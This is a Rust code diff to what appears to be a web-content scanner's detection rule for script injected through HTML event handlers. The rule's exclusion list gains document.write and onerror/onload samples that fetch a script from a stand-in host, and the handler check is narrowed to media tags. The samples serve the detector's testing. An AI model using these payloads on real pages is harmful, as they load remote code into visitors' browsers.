@@ -20,6 +20,8 @@ pub(super) const SIGNAL: Signal = Signal {
         ],
         without: &[
             r#"img.onerror=function(){var s=document.createElement('script');s.src='//c.example/s';document.body.appendChild(s)}"#,
+            r#"document.write('<body onload="var s=document.createElement(\'script\');s.src=\'//c.example/s\';document.body.appendChild(s)">')"#,
+            r#"document.write('<script src="/a.js" onerror="var s=document.createElement(\'script\');s.src=\'//c.example/s\';document.head.appendChild(s)"></scr'+'ipt>')"#,
             r#"box.innerHTML='<img src="/a.png" onerror="this.src=\'/b.png\'">'"#,
         ],
     },
@@ -37,11 +39,20 @@ fn is_in_handler(evidence: &Evidence<'_>, held: Held) -> bool {
     let markup = source.get(item.start as usize..item.end as usize).unwrap_or_default();
     let markup = &markup[..markup.len().min(LONGEST)];
     let loads = [&b"onerror="[..], b"onload=", b"ontoggle=", b"onfocus="];
-    loads.iter().any(|handler| {
-        memchr::memmem::find_iter(markup, handler)
-            .any(|at| at > 0 && markup[at - 1].is_ascii_whitespace() && markup[..at].contains(&b'<'))
-    })
+    loads
+        .iter()
+        .any(|handler| memchr::memmem::find_iter(markup, handler).any(|at| is_of_media(&markup[..at])))
 }
 
+/// Whether markup ends in a tag of something to look at or to fill in. A body loads scripts as a page of its own, and a script that
+/// fails may load another one.
+fn is_of_media(markup: &[u8]) -> bool {
+    let Some(tag) = markup.iter().rposition(|byte| *byte == b'<') else { return false };
+    let name = markup[tag + 1..].split(|byte| !byte.is_ascii_alphanumeric()).next().unwrap_or_default();
+    markup.last().is_some_and(u8::is_ascii_whitespace)
+        && MEDIA.iter().any(|media| name.eq_ignore_ascii_case(media.as_bytes()))
+}
+
+const MEDIA: &[&str] = &["img", "image", "svg", "video", "audio", "details", "input", "object", "marquee"];
 /// Bytes of markup that are looked at.
 const LONGEST: usize = 4096;
